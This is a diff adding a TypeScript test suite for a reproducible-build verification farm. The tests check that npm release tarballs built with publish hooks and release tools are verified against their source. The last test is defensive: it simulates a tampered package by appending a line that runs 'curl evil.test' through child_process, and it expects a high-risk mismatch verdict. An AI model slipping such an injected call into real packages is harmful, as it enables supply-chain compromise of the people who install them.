@@ -1,0 +1,131 @@
+import { cp, mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { execa } from 'execa';
+import { type GitPackage, makeGitPackage, packageJson } from '../fixtures/git-package.js';
+import { commitTime, packTarball } from '../fixtures/publish.js';
+import { Farm } from './farm.js';
+
+/** A build with no dependencies: dist/index.js from src/index.js, stamped with the package's version. */
+const BUILD_JS = `const fs = require('fs');
+const { version } = require('./package.json');
+fs.mkdirSync('dist', { recursive: true });
+fs.writeFileSync('dist/index.js', '// built ' + version + '\\n' + fs.readFileSync('src/index.js', 'utf8'));
+`;
+const SRC = `'use strict';\nmodule.exports = (s) => s.split('').reverse().join('');\n`;
+
+/**
+ * Releases whose publisher ran more than `npm pack`: each maintainer's tarball is made on the host,
+ * by the steps the publisher ran, in a copy of the repository; the farm must find those steps in the
+ * source alone and call the release verified, never `mismatch`.
+ */
+describe('publish steps: what npm publish and release tools run beyond npm pack', () => {
+  const farm = new Farm({ workers: 2, builders: 2, quorum: 2 });
+  beforeAll(() => farm.start(), 240_000);
+  afterAll(() => farm.stop(), 60_000);
+
+  const logsOf = (view: { rebuilds: { logUrl?: string }[] }) => Promise.all(view.rebuilds.map(async (r) => (await farm.request('GET', r.logUrl!)).text()));
+
+  /** The maintainer's publish: the given steps in a copy of the tagged source, then `npm pack` without scripts. */
+  async function publishAfter(pkg: GitPackage, version: string, steps: string[][]): Promise<void> {
+    const copy = await mkdtemp(join(tmpdir(), 'quorum-publisher-'));
+    try {
+      await cp(pkg.dir, copy, { recursive: true, filter: (src) => !/[/]\.git([/]|$)/.test(src) });
+      for (const [cmd, ...args] of steps) await execa(cmd!, args, { cwd: copy });
+      const tarball = await packTarball(copy, 'host', await commitTime(pkg));
+      const manifest = JSON.parse(await readFile(join(copy, 'package.json'), 'utf8')) as Record<string, unknown>;
+      farm.registry.publish({ tarball, manifest: { ...manifest, version, repository: { type: 'git', url: pkg.url } } });
+    } finally {
+      await rm(copy, { recursive: true, force: true });
+    }
+  }
+
+  it('builds with prepublishOnly when nothing else builds the package, as npm publish did', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-only'),
+      { 'package.json': packageJson('pub-only', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepublishOnly: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
+      'v1.0.0',
+    );
+    await publishAfter(pkg, '1.0.0', [['node', 'build.js']]);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-only@1.0.0' });
+    const logs = await logsOf(view);
+    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
+    expect(view.verdict?.notes?.join('\n')).toMatch(/`npm run prepublishOnly` before packing, as `npm publish` runs it/);
+    for (const log of logs) expect(log).toContain('[quorum] npm run prepublishOnly');
+  });
+
+  it('packs the package as it stands when prepublishOnly only pushes, which a sandbox cannot', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/pub-push'), { 'package.json': packageJson('pub-push', '1.0.0', { scripts: { prepublishOnly: 'git push origin --follow-tags' } }), 'index.js': SRC }, 'v1.0.0');
+    await publishAfter(pkg, '1.0.0', []);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-push@1.0.0' });
+    const logs = await logsOf(view);
+    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
+    for (const log of logs) expect(log).toMatch(/prepublishOnly exited with status [1-9]\d*: the package is packed as it stands/);
+  });
+
+  it('runs preprepare and postprepare hooks, which npm pack leaves out, through npm run prepare', async () => {
+    const fixup = `require('fs').writeFileSync('dist/package.json', JSON.stringify({ type: 'commonjs' }) + '\\n');\n`;
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-hooks'),
+      {
+        'package.json': packageJson('pub-hooks', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { preprepare: 'node -e "require(\'fs\').rmSync(\'dist\', { recursive: true, force: true })"', prepare: 'node build.js', postprepare: 'node fixup.js' } }),
+        'build.js': BUILD_JS,
+        'fixup.js': fixup,
+        'src/index.js': SRC,
+      },
+      'v1.0.0',
+    );
+    await publishAfter(pkg, '1.0.0', [['npm', 'run', 'prepare']]);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-hooks@1.0.0' });
+    const logs = await logsOf(view);
+    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
+    expect(view.verdict?.notes?.join('\n')).toMatch(/preprepare\/postprepare hooks/);
+  });
+
+  it('builds in a git repository of the source, as a checkout is, for build steps that ask git', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-git'),
+      {
+        // a hook installer's way: find the top level, fail outside a repository
+        'package.json': packageJson('pub-git', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepare: 'cd "$(git rev-parse --show-toplevel)" && git check-ignore -q dist/index.js && node build.js' } }),
+        '.gitignore': 'dist/\n',
+        'build.js': BUILD_JS,
+        'src/index.js': SRC,
+      },
+      'v1.0.0',
+    );
+    await publishAfter(pkg, '1.0.0', [['node', 'build.js']]);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-git@1.0.0' });
+    const logs = await logsOf(view);
+    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
+    for (const log of logs) expect(log).not.toMatch(/could not be made a git repository/);
+  });
+
+  it('sets the version a release tool set at publish, builds with it, and says so', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-version'),
+      { 'package.json': packageJson('pub-version', '0.0.0-development', { main: 'dist/index.js', files: ['dist'], scripts: { build: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
+      'v1.2.0',
+    );
+    // semantic-release: `npm version` first, then the build and the publish
+    await publishAfter(pkg, '1.2.0', [['npm', 'version', '1.2.0', '--no-git-tag-version', '--allow-same-version'], ['node', 'build.js']]);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-version@1.2.0' });
+    const logs = await logsOf(view);
+    expect(['reproducible', 'equivalent'], logs.join('\n')).toContain(view.verdict?.verdict);
+    expect(view.verdict?.notes?.join('\n')).toMatch(/version set at publish: the source's package\.json says version "0\.0\.0-development" \(a placeholder\)/);
+  });
+
+  it('still calls a tarball mismatch when its code differs from what the publish steps build', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/pub-evil'),
+      { 'package.json': packageJson('pub-evil', '1.0.0', { main: 'dist/index.js', files: ['dist'], scripts: { prepublishOnly: 'node build.js' } }), 'build.js': BUILD_JS, 'src/index.js': SRC },
+      'v1.0.0',
+    );
+    // the publisher's machine built from a changed source: the change exists only in the tarball
+    await publishAfter(pkg, '1.0.0', [['node', 'build.js'], ['sh', '-c', 'echo "require(\'child_process\').exec(\'curl evil.test\');" >> dist/index.js']]);
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/pub-evil@1.0.0' });
+    expect(view.verdict?.verdict).toBe('mismatch');
+    expect(view.verdict?.risk?.level).toBe('high');
+  });
+});
